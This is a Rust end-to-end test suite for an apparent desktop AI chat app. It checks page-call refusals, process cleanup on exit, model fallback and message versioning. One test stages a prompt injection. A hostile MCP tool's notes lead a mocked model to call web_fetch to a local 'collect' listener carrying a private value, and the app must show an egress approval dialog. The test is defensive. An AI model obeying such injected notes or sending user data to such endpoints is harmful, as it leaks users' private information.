        ensure!(v["ok"] == json!(false), "`{cmd}` was not refused: {v}");
        let error = v["error"].as_str().unwrap_or_default();
        ensure!(error.contains("refused") && error.contains(why), "`{cmd}`: {error}");
        ensure!(!error.contains(SECRET), "the refusal quotes an argument: {error}");
    }
    // The UI's own calls still go through.
    app.send_message("Still there?").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the answer failed");
    app.screenshot("1-after-refusals").await?;
    app.close().await?;

    // The app's log: its stderr, which the driver keeps in the data directory.
    let log = std::fs::read_to_string(rig.data.path().join("tauri-driver.log"))?;
    let log = without_ansi_colours(&log);
    let lines: Vec<&str> = log.lines().filter(|l| l.contains("refused a call from the page")).collect();
    for (cmd, _, why) in &calls {
        ensure!(
            lines.iter().any(|l| l.contains("WARN") && l.contains(&format!("command={cmd}")) && l.contains(why)),
            "no refusal line for `{cmd}` in the app's log:\n{}",
            lines.join("\n")
        );
    }
    ensure!(!log.contains(SECRET), "the app's log quotes a refused call's argument");
    Ok(())
}

/// `text` without the terminal colour sequences (`ESC [ ... m`) a log line may carry.
fn without_ansi_colours(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        if c == '\u{1b}' {
            for d in chars.by_ref() {
                if d == 'm' {
                    break;
                }
            }
        } else {
            out.push(c);
        }
    }
    out
}

// ----- s. nothing a tool started outlives the app, closed or ended by SIGTERM -----------------

/// What the fixture server leaves behind as it starts (tests/e2e/fixtures/procs_outlive_server.py).
const R_KINDS: [&str; 5] = ["plain", "group", "setsid", "double", "escaped"];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn s_nothing_a_tool_started_outlives_the_app() -> Result<()> {
    let Some(pre) = Prereqs::require("s_nothing_left_running") else { return Ok(()) };
    let mock = MockServer::start(Script::new(vec![])).await;
    let data = DataDir::new(&mock.base_url())?;
    let python = switchboard_e2e::target_dir().join("mcp-venv/bin/python");
    ensure!(python.exists(), "{} is missing: run scripts/mcp-servers.sh (scripts/setup.sh does)", python.display());
    let fixtures = switchboard_e2e::repo_root().join("tests/e2e/fixtures");
    // The server writes the pids here; each process it leaves has this path in its command line.
    let procs = data.path().join("procs");
    std::fs::create_dir_all(&procs)?;
    data.add_mcp_server(
        "procs",
        switchboard_mcp::ServerConfig {
            command: Some(python.display().to_string()),
            args: vec![fixtures.join("procs_outlive_server.py").display().to_string(), procs.display().to_string()],
            ..Default::default()
        },
    )?;
    // Whatever the test finds left is killed when it ends, passed or failed.
    let mut left = RLeftBehind(Vec::new(), procs.clone());

    // (a) A person closes the window (a window manager's WM_DELETE_WINDOW): the app exits the
    // ordinary way. Started without WebDriver: WebKitWebDriver SIGKILLs the app as soon as its
    // last window goes (and when the session ends), before any exit code of the app can run.
    let log = data.path().join("app-closed.log");
    let out = std::fs::File::create(&log)?;
    let mut app = tokio::process::Command::new(&pre.app);
    app.envs(data.env()).env_remove("SWITCHBOARD_KEY_MOCK").stdin(std::process::Stdio::null());
    for name in data.env_removed() {
        app.env_remove(name);
    }
    let mut app = app.stdout(out.try_clone()?).stderr(out).kill_on_drop(true).spawn()?;
    let pid = app.id().context("the app's pid")?;
    let tree = s_tree_up(&procs).await?;
    left.0.extend(tree.iter().map(|(_, pid)| *pid));
    let asked = tokio::process::Command::new(&python)
        .arg(fixtures.join("close_window.py"))
        .arg(pid.to_string())
        .output()
        .await?;
    ensure!(asked.status.success(), "closing the app's window: {}", String::from_utf8_lossy(&asked.stderr));
    let status = tokio::time::timeout(Duration::from_secs(15), app.wait())
        .await
        .context("the app did not exit within 15 s of its window closing")??;
    let closed_log = std::fs::read_to_string(&log).unwrap_or_default();
    ensure!(status.success(), "the app closed with {status}:\n{closed_log}");
    s_all_gone(&tree, &procs, "the app's window was closed", &closed_log).await?;

    // (b) SIGTERM (a logout, `kill`, a service manager) to the app WebDriver drives: the same.
    for kind in R_KINDS {
        std::fs::remove_file(procs.join(format!("{kind}.pid")))?;
    }
    let driver = Driver::start(&pre, &data).await?;
    let rig = Rig { driver, data, mock };
    let app = rig.driver.launch("r-sigterm").await?;
    // Settings -> MCP servers: the server is up and answered, not only started.
    app.click(&tid("open-settings")).await?;
    app.wait_and_click(&tid("settings-nav-mcp"), LONG).await?;
    app.wait_for(
        "the MCP server to be ready",
        &format!(
            "return !!document.querySelector('{}[data-name=\"procs\"][data-state=\"ready\"]');",
            tid("mcp-server")
        ),
        LONG,
    )
    .await?;
    let tree = s_tree_up(&procs).await?;
    left.0.extend(tree.iter().map(|(_, pid)| *pid));
    let pid = app.pid.context("the app's pid is not known")?;
    let sent = std::process::Command::new("kill").args(["-TERM", &pid.to_string()]).status()?;
    ensure!(sent.success(), "kill -TERM {pid} failed: {sent}");
    let deadline = Instant::now() + Duration::from_secs(15);
    while let Some(stat) = r_running(pid) {
        ensure!(
            Instant::now() < deadline,
            "the app did not exit within 15 s of SIGTERM: {stat}\n{}",
            rig.driver.log_tail()
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    drop(app);
    s_all_gone(&tree, &procs, "the app got SIGTERM", &rig.driver.log_tail()).await?;

    // Neither exit logged an error of the app's or a panic (the driver's log holds the app's stderr).
    let sigterm_log = std::fs::read_to_string(rig.data.path().join("tauri-driver.log")).unwrap_or_default();
    for (how, log) in [("closed", &closed_log), ("SIGTERM", &sigterm_log)] {
        let errors: Vec<&str> = log
            .lines()
            .filter(|l| l.contains("panicked") || (l.contains("ERROR") && l.contains("switchboard")))
            .collect();
        ensure!(errors.is_empty(), "the app ({how}) logged errors:\n{}", errors.join("\n"));
    }
    Ok(())
}

/// Waits until every process the fixture server leaves has written its pid; returns them by kind.
async fn s_tree_up(procs: &std::path::Path) -> Result<Vec<(&'static str, u32)>> {
    let deadline = Instant::now() + LONG;
    let mut tree = Vec::new();
    for kind in R_KINDS {
        let file = procs.join(format!("{kind}.pid"));
        let pid = loop {
            if let Some(pid) = std::fs::read_to_string(&file).ok().and_then(|s| s.trim().parse::<u32>().ok()) {
                break pid;
            }
            ensure!(Instant::now() < deadline, "the server's {kind} process never wrote {}", file.display());
            tokio::time::sleep(Duration::from_millis(50)).await;
        };
        ensure!(r_tree_process(pid, procs).is_some(), "the {kind} process {pid} is not running while the app runs");
        tree.push((kind, pid));
    }
    Ok(tree)
}

/// Fails unless, within 10 s, none of `tree` is still running.
async fn s_all_gone(tree: &[(&str, u32)], procs: &std::path::Path, after: &str, log: &str) -> Result<()> {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let running: Vec<String> = tree
            .iter()
            .filter_map(|&(kind, pid)| r_tree_process(pid, procs).map(|stat| format!("{kind} ({pid}): {stat}")))
            .collect();
        if running.is_empty() {
            return Ok(());
        }
        ensure!(
            Instant::now() < deadline,
            "10 s after {after}, processes a tool started are still running:\n{}\napp log:\n{log}",
            running.join("\n")
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// `/proc/<pid>/stat` while `pid` runs (exists and is not a zombie).
fn r_running(pid: u32) -> Option<String> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let state = stat.rsplit_once(')')?.1.split_whitespace().next()?;
    (state != "Z" && state != "X").then_some(stat)
}

/// Like [`r_running`], and only for a process of the fixture's tree (its command line names
/// `procs`): a later process with the same pid is not one.
fn r_tree_process(pid: u32, procs: &std::path::Path) -> Option<String> {
    let cmdline = String::from_utf8_lossy(&std::fs::read(format!("/proc/{pid}/cmdline")).ok()?).into_owned();
    cmdline.contains(&procs.display().to_string()).then(|| r_running(pid)).flatten()
}

/// Processes of the fixture's tree (pids, and the folder their command lines name) the scenario
/// kills when it ends, so a failure leaves nothing behind on the machine.
struct RLeftBehind(Vec<u32>, std::path::PathBuf);

impl Drop for RLeftBehind {
    fn drop(&mut self) {
        for pid in self.0.iter().filter(|&&pid| r_tree_process(pid, &self.1).is_some()) {
            let _ = std::process::Command::new("kill")
                .args(["-KILL", &pid.to_string()])
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .status();
        }
    }
}

// ----- t. a tool's result cannot make the app send the chat somewhere without asking ---------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t_a_tool_result_cannot_make_the_app_send_the_chat_without_asking() -> Result<()> {
    let Some(pre) = Prereqs::require("t_egress") else { return Ok(()) };
    const SECRET: &str = "salary-91234";
    // The place the hostile note wants the chat sent to: a listener on this computer that counts
    // every request it gets.
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = hits.clone();
    let collector = axum::Router::new().fallback(move || {
        let counted = counted.clone();
        async move {
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            "ok"
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let exfil = format!("http://127.0.0.1:{}/collect", listener.local_addr()?.port());
    tokio::spawn(async move { axum::serve(listener, collector).await });

    // The model reads the notes, then does what the note in them says.
    let mock = MockServer::start(Script::new(vec![
        Reply::tool_call("call_notes", "hostile__read_notes", "{}"),
        Reply::tool_call("call_fetch", "web_fetch", json!({ "url": format!("{exfil}?d={SECRET}") }).to_string()),
        Reply::text("Your notes say to buy milk."),
    ]))
    .await;
    let data = DataDir::new(&mock.base_url())?;
    // web_fetch may reach this computer (the listener is local; without it web_fetch would refuse
    // on its own and prove nothing).
    data.open_store()?.set_setting("web", &json!({ "allowLocalAddresses": true }))?;
    let python = switchboard_e2e::target_dir().join("mcp-venv/bin/python");
    ensure!(python.exists(), "{} is missing: run scripts/setup.sh", python.display());
    let script = switchboard_e2e::repo_root().join("crates/mcp/tests/fixtures/hostile_egress_server.py");
    data.add_mcp_server(
        "hostile",
        switchboard_mcp::ServerConfig {
            command: Some(python.display().to_string()),
            args: vec![script.display().to_string()],
            env: [("EXFIL_URL".to_owned(), exfil.clone())].into(),
            ..Default::default()
        },
    )?;
    let driver = Driver::start(&pre, &data).await?;
    let rig = Rig { driver, data, mock };
    let app = rig.driver.launch("t").await?;
    app.click(&tid("open-settings")).await?;
    app.wait_and_click(&tid("settings-nav-mcp"), LONG).await?;
    app.wait_for(
        "the hostile MCP server to be ready",
        &format!(
            "return !!document.querySelector('{}[data-name=\"hostile\"][data-state=\"ready\"]');",
            tid("mcp-server")
        ),
        LONG,
    )
    .await?;
    app.click(&tid("close-settings")).await?;

    app.send_message(&format!("Summarise my notes. Private: my {SECRET}.")).await?;
    // The MCP tool asks first like any other program's tool: allowed once. Then the fetch the
    // note asked for must be asked about as egress.
    let dialog = |egress: bool| {
        format!(
            "const d = document.querySelector('{}'); \
             return d && !!d.querySelector('{}') === {egress} ? d.innerText : null;",
            tid("approval-dialog"),
            tid("approval-egress")
        )
    };
    let ordinary = app.wait_for("the MCP tool's ordinary question", &dialog(false), LONG).await?;
    ensure!(ordinary.as_str().is_some_and(|t| t.contains("hostile__read_notes")), "the first question: {ordinary}");
    app.click(&format!("{} .btn.primary", tid("approval-dialog"))).await?;
    let asked = app.wait_for("the egress question", &dialog(true), LONG).await?;
    let asked = asked.as_str().unwrap_or_default().to_owned();
    let sentence = format!(
        "This would send {exfil}?d={SECRET} to 127.0.0.1, a destination not used in this chat, \
         after the chat read output from hostile__read_notes."
    );
    ensure!(asked.contains(&sentence), "the egress question does not say {sentence:?}: {asked}");
    ensure!(!asked.contains("Always allow"), "the egress question offers to always allow: {asked}");
    app.screenshot("1-egress-question").await?;
    app.click(&format!("{} .deny", tid("approval-dialog"))).await?;

    let status = wait_assistant_settled(&app, 1, LONG).await?;
    ensure!(status == "complete", "the answer ended as {status}");
    let fetch = app
        .js(
            &format!(
                "const c = document.querySelector('{}[data-tool-name=\"web_fetch\"]'); return c ? c.dataset.status : null;",
                tid("tool-card")
            ),
            vec![],
        )
        .await?;
    ensure!(fetch == json!("denied"), "the web_fetch card: {fetch}");
    app.screenshot("2-denied-and-answered").await?;
    let n = hits.load(std::sync::atomic::Ordering::SeqCst);
    ensure!(n == 0, "the private text left: the listener got {n} request(s)");
    ensure!(rig.mock.requests().len() == 3, "the mock got {} requests", rig.mock.requests().len());
    app.close().await?;
    Ok(())
}

// ----- y. a model the server does not have offers the ones it has; an MCP server is edited --------

/// The native dialog titled `title` (a GTK window outside the webview): waits for it, saves a
/// screenshot of the whole screen with it to `tests/artifacts/e2e/y-<step>.png`, then clicks its
/// `button`: "Allow" (the left half of its button row) or "Cancel" (the right half), with real
/// pointer events (there is no window manager under Xvfb to give it the keyboard).
async fn y_answer_native_dialog(title: &str, step: &str, button: &str) -> Result<()> {
    let deadline = Instant::now() + LONG;
    let window = loop {
        let found = std::process::Command::new("xdotool").args(["search", "--name", title]).output()?;
        let ids = String::from_utf8_lossy(&found.stdout).trim().to_owned();
        if let Some(id) = ids.lines().last().filter(|l| !l.is_empty()) {
            break id.to_owned();
        }
        ensure!(Instant::now() < deadline, "no native dialog titled '{title}' appeared");
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    // Drawn before it is photographed.
    tokio::time::sleep(Duration::from_millis(700)).await;
    std::fs::create_dir_all(switchboard_e2e::artifacts_dir())?;
    let shot = switchboard_e2e::artifacts_dir().join(format!("y-{step}.png"));
    let _ = std::process::Command::new("import").args(["-window", "root"]).arg(&shot).status();
    let geometry = std::process::Command::new("xdotool").args(["getwindowgeometry", "--shell", &window]).output()?;
    let geometry = String::from_utf8_lossy(&geometry.stdout).to_string();
    let value = |key: &str| -> Result<i64> {
        geometry
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{key}=")))
            .and_then(|v| v.trim().parse().ok())
            .with_context(|| format!("no {key} in the dialog's geometry: {geometry}"))
    };
    let (x, y, width, height) = (value("X")?, value("Y")?, value("WIDTH")?, value("HEIGHT")?);
    let at_x = if button == "Allow" { x + width / 4 } else { x + width * 3 / 4 };
    let at_y = y + height - 17;
    let clicked = std::process::Command::new("xdotool")
        .args(["mousemove", "--sync", &at_x.to_string(), &at_y.to_string(), "click", "1"])
        .status()?;
    ensure!(clicked.success(), "xdotool could not click the dialog");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn y_a_model_not_found_offers_the_servers_models_and_an_mcp_server_is_edited() -> Result<()> {
    const ANSWER: &str = "Answered by the reasoner ✓";
    let not_found = r#"{"error":{"message":"The model `gpt-9` does not exist or you do not have access to it.","type":"invalid_request_error","param":null,"code":"model_not_found"}}"#;
    let Some(pre) = Prereqs::require("y_models_and_mcp_edit") else { return Ok(()) };
    let mock = MockServer::start(Script::new(vec![
        Reply::Http { status: 404, headers: vec![], body: not_found.into() },
        Reply::text(ANSWER),
    ]))
    .await;
    let data = DataDir::new(&mock.base_url())?;
    let python = switchboard_e2e::target_dir().join("mcp-venv/bin/python");
    ensure!(python.exists(), "{} is missing: run scripts/mcp-servers.sh (scripts/setup.sh does)", python.display());
    let fixture_dir = data.path().join("fixture");
    std::fs::create_dir_all(&fixture_dir)?;
    let script = switchboard_e2e::repo_root().join("crates/mcp/tests/fixtures/fixture_server.py");
    data.add_mcp_server(
        "fx",
        switchboard_mcp::ServerConfig {
            command: Some(python.display().to_string()),
            args: vec![script.display().to_string()],
            env: [("FIXTURE_DIR".to_owned(), fixture_dir.display().to_string())].into(),
            ..Default::default()
        },
    )?;
    let driver = Driver::start(&pre, &data).await?;
    let rig = Rig { driver, data, mock };
    let app = rig.driver.launch("y").await?;

    // "Other model…" takes an id the server does not have.
    app.wait_for(
        "the model picker with the provider's models",
        &format!("return !!document.querySelector('{} [data-testid=\"model-other-option\"]');", tid("model-picker")),
        LONG,
    )
    .await?;
    app.js(
        &format!(
            "const s = document.querySelector('{}'); const o = [...s.options].find(o => o.dataset.testid === 'model-other-option'); \
             s.value = o.value; s.dispatchEvent(new Event('change', {{ bubbles: true }})); return true;",
            tid("model-picker")
        ),
        vec![],
    )
    .await?;
    app.wait_for(
        "the model id field",
        &format!("return !!document.querySelector('{}');", tid("model-other-input")),
        LONG,
    )
    .await?;
    app.js(
        &format!(
            "const i = document.querySelector('{}'); i.value = 'gpt-9'; i.dispatchEvent(new Event('input', {{ bubbles: true }})); \
             document.querySelector('{}').requestSubmit(); return true;",
            tid("model-other-input"),
            tid("model-other")
        ),
        vec![],
    )
    .await?;
    app.wait_for(
        "the picker showing the typed model",
        &format!(
            "const s = document.querySelector('{}'); return s && s.value.endsWith('\\u0000gpt-9');",
            tid("model-picker")
        ),
        LONG,
    )
    .await?;
    app.screenshot("1-typed-model").await?;

    // The server says it has no such model: the answer offers the models it has.
    app.send_message("Which model are you?").await?;
    let status = wait_assistant_settled(&app, 1, LONG).await?;
    ensure!(status == "error", "the first answer ended as {status}");
    let offered = app
        .wait_for(
            "the server's models offered",
            &format!(
                "const b = [...document.querySelectorAll('{}')].map(b => b.dataset.model); return b.length ? b : null;",
                tid("model-offer-model")
            ),
            LONG,
        )
        .await?;
    ensure!(offered == json!(["mock-model", "mock-reasoner"]), "offered: {offered}");
    app.screenshot("2-model-not-found-offers-models").await?;

    // One click asks again with it, and it answers.
    app.click(&format!("{}[data-model=\"mock-reasoner\"]", tid("model-offer-model"))).await?;
    app.wait_for(
        "the answer from the picked model",
        &format!(
            "const ms = [...document.querySelectorAll('{}[data-role=\"assistant\"]')]; const m = ms[ms.length - 1]; \
             return m && m.dataset.status === 'complete' && m.textContent.includes({}) ? true : null;",
            tid("message"),
            js_str(ANSWER)
        ),
        LONG,
    )
    .await?;
    let models: Vec<String> = rig
        .mock
        .requests()
        .iter()
        .filter(|r| r.path.ends_with("/chat/completions"))
        .map(|r| r.body["model"].as_str().unwrap_or_default().to_owned())
        .collect();
    ensure!(models.first().map(String::as_str) == Some("gpt-9"), "asked first with: {models:?}");
    ensure!(models.iter().any(|m| m == "mock-reasoner"), "asked again with: {models:?}");
    let picker = app.js(&format!("return document.querySelector('{}').value;", tid("model-picker")), vec![]).await?;
    ensure!(picker.as_str().is_some_and(|v| v.ends_with("\u{0}mock-reasoner")), "the chat's model now: {picker}");
    app.screenshot("3-answered-by-the-picked-model").await?;

    // Settings -> MCP servers: edit the server's arguments. What runs changes, so the app asks in
    // its native dialog, as when adding: declined, the edit is kept and waits for approval.
    app.click(&tid("open-settings")).await?;
    app.wait_and_click(&tid("settings-nav-mcp"), LONG).await?;
    let row = |state: &str| {
        format!("return !!document.querySelector('{}[data-name=\"fx\"][data-state=\"{state}\"]');", tid("mcp-server"))
    };
    app.wait_for("the fixture server, ready", &row("ready"), LONG).await?;
    app.click(&tid("mcp-edit-fx")).await?;
    app.wait_for(
        "the edit form",
        &format!("return !!document.querySelector('{}[data-editing=\"fx\"]');", tid("mcp-form")),
        LONG,
    )
    .await?;
    app.js(
        &format!(
            "const t = document.querySelector('{}'); t.value = t.value + '\\n--edited'; \
             t.dispatchEvent(new Event('input', {{ bubbles: true }})); return true;",
            tid("mcp-args")
        ),
        vec![],
    )
    .await?;
    app.wait_for(
        "the note that the app will ask",
        &format!("return !!document.querySelector('{}');", tid("mcp-form-asks")),
        LONG,
    )
    .await?;
    app.screenshot("4-edit-form").await?;
    app.click(&tid("mcp-save")).await?;
    y_answer_native_dialog("Run a program for Switchboard?", "5-native-confirmation-declined", "Cancel").await?;
    app.wait_for(
        "the edit, saved but waiting",
        &format!("return !!document.querySelector('{}');", tid("mcp-form-declined")),
        LONG,
    )
    .await?;
    app.wait_for("the server waiting for approval", &row("needsApproval"), LONG).await?;
    let target = app
        .js(
            &format!(
                "return document.querySelector('{}[data-name=\"fx\"] {}').textContent;",
                tid("mcp-server"),
                tid("mcp-target")
            ),
            vec![],
        )
        .await?;
    ensure!(target.as_str().is_some_and(|t| t.ends_with("--edited")), "the edited command line: {target}");
    app.screenshot("6-edit-waits-for-approval").await?;

    // Allowed in the same dialog, the edited server runs.
    app.click(&tid("mcp-approve-fx")).await?;
    y_answer_native_dialog("Run a program for Switchboard?", "7-native-confirmation-allowed", "Allow").await?;
    app.wait_for("the edited server, ready", &row("ready"), LONG).await?;
    let config: Value =
        serde_json::from_str(&std::fs::read_to_string(rig.data.path().join(switchboard_mcp::config::CONFIG_FILE))?)?;
    ensure!(config["mcpServers"]["fx"]["args"][1] == "--edited", "the config file: {config}");
    app.screenshot("8-edited-server-ready").await?;
    Ok(())
}

// ----- u. edit and versions: a new branch, another model, back to version 1, the same after a restart

/// The first answer: a sentence, then the clock and a scout in the same round.
const U_BEFORE: &str = "Checking the clock and asking a scout 🕰️ — 確認します. ";
const U_LYON: &str = "Lyon: the clock and the scout agree ✅";
const U_ROME: &str = "Rome is on the same time as Lyon 🇮🇹";
const U_OTHER: &str = "A second opinion, from the other model: Rome shares Lyon's time.";

/// What the transcript leaves out: each message's role, id and version position ("1/2"; "" when
/// it has none), and each sub-agent run with its own tool cards.
const U_VIEW_JS: &str = "return { messages: [...document.querySelectorAll('[data-testid=\"message\"]')].map(m => { \
       const n = m.querySelector('[data-testid=\"version-nav\"]'); return [m.dataset.role, m.dataset.id, n ? n.dataset.index + '/' + n.dataset.count : '']; }), \
     runs: [...document.querySelectorAll('[data-testid=\"agent-run\"]')].map(r => ({ instance: r.dataset.instance, status: r.dataset.status, \
       tools: [...r.querySelectorAll('[data-testid=\"tool-card\"]')].map(c => c.dataset.toolName + ':' + c.dataset.status) })) };";

/// Clicks the `n`th (0-based) message's button `testid` the way a script does: a question's
/// actions show on hover, which WebDriver does not do before it checks that a button can be clicked.
async fn u_click_in_message(app: &App, n: usize, testid: &str) -> Result<()> {
    let clicked = app
        .js(
            &format!(
                "const m = document.querySelectorAll('[data-testid=\"message\"]')[{n}]; const b = m && m.querySelector('{}'); \
                 if (!b || b.disabled || b.getAttribute('aria-disabled') === 'true') return false; b.click(); return true;",
                tid(testid)
            ),
            vec![],
        )
        .await?;
    ensure!(clicked == json!(true), "message #{n} has no usable {testid} button: {}", app.dom_summary().await?);
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn u_edit_regenerate_with_another_model_and_versions_survive_a_restart() -> Result<()> {
    let replies = vec![
        slow(
            vec![
                Step::text(U_BEFORE),
                Step::tool_call("u1", "get_time", r#"{"timezone":"Europe/Paris"}"#),
                Step::tool_call("u2", "agent__Scout", r#"{"message":"What time is it in Lyon?"}"#),
                Step::finish("tool_calls"),
                Step::usage(40, 12),
                Step::Done,
            ],
            4,
            40,
        ),
        Reply::text(U_LYON),
        Reply::text(U_ROME),
        Reply::text(U_OTHER),
    ];
    let Some(rig) = rig("u_versions", replies).await? else { return Ok(()) };
    let scouts = MockServer::start(Script::echo().with_chunk_delay(20)).await;
    rig.data.add_provider("scouts", &scouts.base_url(), "scout-model")?;
    // Another profile on the same server, so the regenerated answer shows which model gave it.
    rig.data.add_provider("other", &rig.mock.base_url(), "other-model")?;
    let agents = json!({
        "toolsets": [
            { "name": "work", "tools": ["agent:Scout", "get_time"] },
            { "name": "clock", "tools": ["get_time"] }
        ],
        "agents": [
            { "name": "Scout", "description": "Finds one fact.", "profile": "scouts", "toolsets": ["clock"] }
        ]
    });
    std::fs::write(rig.data.path().join("agents.json"), serde_json::to_string_pretty(&agents)?)?;

    let app = rig.driver.launch("u").await?;
    // The toolset with the clock and the scout, switched on for this chat.
    app.wait_and_click(&tid("tools-tray-toggle"), LONG).await?;
    app.wait_and_click(&format!("{}[data-toolset=\"work\"]", tid("toolset-toggle")), LONG).await?;
    app.click(&tid("tools-tray-toggle")).await?;
    app.send_message("What time is it in Lyon? Check the clock and ask a scout.").await?;

    // While it streams, the question cannot be edited, and says why.
    let busy = app
        .wait_for(
            "the edit button off while the answer streams",
            &format!(
                "const b = document.querySelector('{}'); return b && b.getAttribute('aria-disabled') === 'true' ? b.title : null;",
                tid("edit-message")
            ),
            LONG,
        )
        .await?;
    ensure!(busy == json!("Wait until the answer finishes, or stop it."), "the disabled edit button says {busy}");
    app.screenshot("1-streaming-edit-off").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the first answer failed");
    app.wait_for(
        "the scout's run",
        "const r = document.querySelector('[data-testid=\"agent-run\"]'); return r && r.dataset.status === 'complete' ? true : null;",
        LONG,
    )
    .await?;
    let first = app.transcript().await?;
    let first_view: Value = app.js(U_VIEW_JS, vec![]).await?;
    let answer = last_assistant(&first)?;
    ensure!(
        answer.text_before_first_card() == U_BEFORE.trim_end()
            && answer.cards().iter().map(|c| c.0).take(2).collect::<Vec<_>>() == ["get_time", "agent__Scout"]
            && answer.text().ends_with(U_LYON),
        "the first answer is not [text, the clock's card, the scout's card (its run's own card in it), the final text]: {answer:#?}"
    );
    ensure!(first_view["runs"][0]["tools"] == json!(["get_time:ok"]), "the scout's run: {first_view}");
    app.screenshot("2-first-answer").await?;

    // Edit the first question: an editor in place of the bubble, then a new branch.
    u_click_in_message(&app, 0, "edit-message").await?;
    app.wait_for("the editor", &format!("return !!document.querySelector('{}');", tid("edit-input")), LONG).await?;
    app.js(
        &format!(
            "const t = document.querySelector('{}'); t.value = 'What time is it in Rome?'; t.dispatchEvent(new Event('input', {{ bubbles: true }})); return true;",
            tid("edit-input")
        ),
        vec![],
    )
    .await?;
    app.screenshot("3-editing").await?;
    app.click(&tid("edit-save")).await?;
    app.wait_for(
        "the answer on the new branch",
        &format!(
            "const ms = document.querySelectorAll('[data-testid=\"message\"]'); \
             return ms.length === 2 && ms[1].dataset.status === 'complete' && ms[1].innerText.includes({}) ? true : null;",
            js_str(U_ROME)
        ),
        LONG,
    )
    .await?;
    let edited: Value = app.js(U_VIEW_JS, vec![]).await?;
    ensure!(edited["messages"][0][2] == "2/2" && edited["runs"] == json!([]), "after the edit: {edited}");

    // Regenerate that answer with the other profile's model.
    app.click(&tid("regenerate-with")).await?;
    app.wait_for(
        "the model picker",
        &format!("return !!document.querySelector('{}');", tid("regenerate-with-picker")),
        LONG,
    )
    .await?;
    let picked = app
        .js(
            &format!(
                "const s = document.querySelector('{}'); const o = [...s.options].find(o => o.value.startsWith('other\\u0000')); \
                 if (!o) return null; s.value = o.value; s.dispatchEvent(new Event('change', {{ bubbles: true }})); return o.value;",
                tid("regenerate-with-picker")
            ),
            vec![],
        )
        .await?;
    ensure!(picked.is_string(), "the picker offers no model of 'other'");
    app.screenshot("4-regenerate-with").await?;
    app.click(&tid("regenerate-with-go")).await?;
    app.wait_for(
        "the regenerated answer, version 2 of 2",
        &format!(
            "const ms = document.querySelectorAll('[data-testid=\"message\"]'); const n = ms[1] && ms[1].querySelector('[data-testid=\"version-nav\"]'); \
             return ms.length === 2 && ms[1].dataset.status === 'complete' && ms[1].innerText.includes({}) && n && n.dataset.index === '2' && n.dataset.count === '2' ? true : null;",
            js_str(U_OTHER)
        ),
        LONG,
    )
    .await?;
    let footer = app
        .js("return document.querySelectorAll('[data-testid=\"message\"]')[1].querySelector('footer .model').textContent;", vec![])
        .await?;
    ensure!(footer.as_str().is_some_and(|f| f.contains("other-model")), "the regenerated answer's footer: {footer}");
    let requests = rig.mock.requests();
    ensure!(requests.len() == 4, "the mock got {} requests", requests.len());
    ensure!(requests[3].body["model"] == json!("other-model"), "the regenerated request: {:#}", requests[3].body);
    // The regenerated answer was asked the edited question, on its branch only.
    let asked = requests[3].body.to_string();
    ensure!(asked.contains("What time is it in Rome?") && !asked.contains("in Lyon?"), "{asked}");
    app.screenshot("5-regenerated").await?;

    // Back to version 1 of the first question: its whole branch, the tool cards and the scout's run.
    u_click_in_message(&app, 0, "version-prev").await?;
    app.wait_for(
        "version 1's branch",
        &format!(
            "const ms = document.querySelectorAll('[data-testid=\"message\"]'); \
             return ms.length === 2 && ms[1].innerText.includes({}) && document.querySelectorAll('[data-testid=\"agent-run\"]').length === 1 ? true : null;",
            js_str(U_LYON)
        ),
        LONG,
    )
    .await?;
    let back = app.transcript().await?;
    let back_view: Value = app.js(U_VIEW_JS, vec![]).await?;
    ensure!(back == first, "version 1 does not show what it showed live:\nlive: {first:#?}\nnow: {back:#?}");
    let mut expected = first_view.clone();
    expected["messages"][0][2] = json!("1/2");
    ensure!(back_view == expected, "version 1's view:\nexpected {expected}\ngot {back_view}");
    app.screenshot("6-back-to-version-1").await?;
    app.close().await?;

    // A new app process: the conversation opens on the same branch, showing the same.
    let app = rig.driver.launch("u").await?;
    app.wait_and_click(&format!("{} button.open", tid("conversation-item")), LONG).await?;
    app.wait_for(
        "the reopened conversation",
        "return document.querySelectorAll('[data-testid=\"message\"]').length === 2 && \
         document.querySelectorAll('[data-testid=\"agent-run\"]').length === 1 ? true : null;",
        LONG,
    )
    .await?;
    let reopened = app.transcript().await?;
    let reopened_view: Value = app.js(U_VIEW_JS, vec![]).await?;
    app.screenshot("7-restarted").await?;
    ensure!(reopened == back, "after a restart:\nbefore: {back:#?}\nafter: {reopened:#?}");
    ensure!(reopened_view == back_view, "after a restart:\nbefore: {back_view}\nafter: {reopened_view}");
    // Version 2 still holds the edited question and both of its answers.
    u_click_in_message(&app, 0, "version-next").await?;
    app.wait_for(
        "version 2's branch",
        &format!(
            "const ms = document.querySelectorAll('[data-testid=\"message\"]'); const n = ms[1] && ms[1].querySelector('[data-testid=\"version-nav\"]'); \
             return ms.length === 2 && ms[0].innerText.includes('Rome') && ms[1].innerText.includes({}) && n && n.dataset.count === '2' ? true : null;",
            js_str(U_OTHER)
        ),
        LONG,
    )
    .await?;
    app.screenshot("8-version-2-after-restart").await?;
    ensure!(
        rig.mock.requests().len() == 4,
        "switching versions asked the model: {} requests",
        rig.mock.requests().len()
    );
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

// ----- w. a chat keeps its setup: toolsets, parameters and model after a restart; grants revoked --

/// Whether the tray's toggle of toolset `name` is on (opening the tray first if it is closed).
async fn w_toolset_on(app: &App, name: &str) -> Result<bool> {
